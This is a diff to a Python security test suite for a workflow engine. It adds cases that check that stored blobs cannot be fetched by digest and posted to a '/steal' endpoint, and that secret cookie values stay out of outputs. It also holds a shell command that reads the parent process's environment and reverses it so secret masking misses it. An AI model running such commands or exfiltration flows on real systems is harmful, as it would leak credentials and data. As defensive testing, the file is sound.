@@ -7,12 +7,17 @@ of the command line (`Command`) is called in a folder full of traps. To extend t
 
 from __future__ import annotations
 
+import hashlib
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass, field
 from typing import Any
 
 CANARY = "s3cr3t-canary-4711"
 """The value of the secret `CRM`; in no form may it be found in anything that a row leaves behind."""
+
+FILE = b"a file of another workflow"
+FILE_DIGEST = f"sha256:{hashlib.sha256(FILE).hexdigest()}"
+"""It is in the store before a row runs."""
 
 
 @dataclass(frozen=True)
@@ -216,7 +221,7 @@ STORE: tuple[Row, ...] = (
     ),
     Run(
         "H1b many legal statements",
-        (on_store(COUNT.format(30_000), map={"over": list(range(100))}),),
+        (on_store(COUNT.format(5_000), map={"over": list(range(200))}),),
         Completes(),
         grants=SQL_ON,
         neighbours=True,
@@ -388,7 +393,8 @@ SECRETS: tuple[Row, ...] = (
 # M1, M6 and L: commands, inputs, terminal.
 
 SHELL_ON = "shell = true"
-PARENT = "for p in $PPID 1 $(ls /proc | grep '^[0-9]'); do tr '\\0' '\\n' < /proc/$p/environ | rev; done; true"
+PARENT = "tr '\\0' '\\n' < /proc/$PPID/environ | rev; env | rev"
+"""Reversed, because masks would hide it otherwise."""
 
 OTHERS: tuple[Row, ...] = (
     Run(
@@ -402,6 +408,31 @@ OTHERS: tuple[Row, ...] = (
         (document(node("value", 1)),),
         Refused("inputs_too_large"),
         inputs={"a": "x" * 60_000_000},
+    ),
+    Run(
+        "L4 a digest in an answer",
+        (
+            document(
+                node("http", {"url": "{url}/b"}, "h"),
+                once("http", {"url": "{url}/steal", "body": "{{ h.output.body }}"}, dependencies=["h"]),
+            ),
+        ),
+        Fails("blob_unknown"),
+        answers={"/b": Answer(b'{"$blob": "%b"}' % FILE_DIGEST.encode()), "/steal": Answer()},
+        visits=("/b",),
+    ),
+    Run(
+        "L4 a digest in a document",
+        (document(once("http", {"url": "{url}/steal", "body": {"$blob": FILE_DIGEST}})),),
+        Fails("blob_unknown"),
+        answers={"/steal": Answer()},
+        visits=(),
+    ),
+    Run(
+        "L5 a cookie of an answer",
+        asks("/c"),
+        Completes(lambda outputs: CANARY not in str(outputs)),
+        answers={"/c": Answer(b"1", {"Set-Cookie": f"session={CANARY}"})},
     ),
     Command("L1 render", ("render", "a\x1b[2J\x07\x9b\u202eb"), words="\\x1b[2J", absent="\x1b", code=0),
     Command(
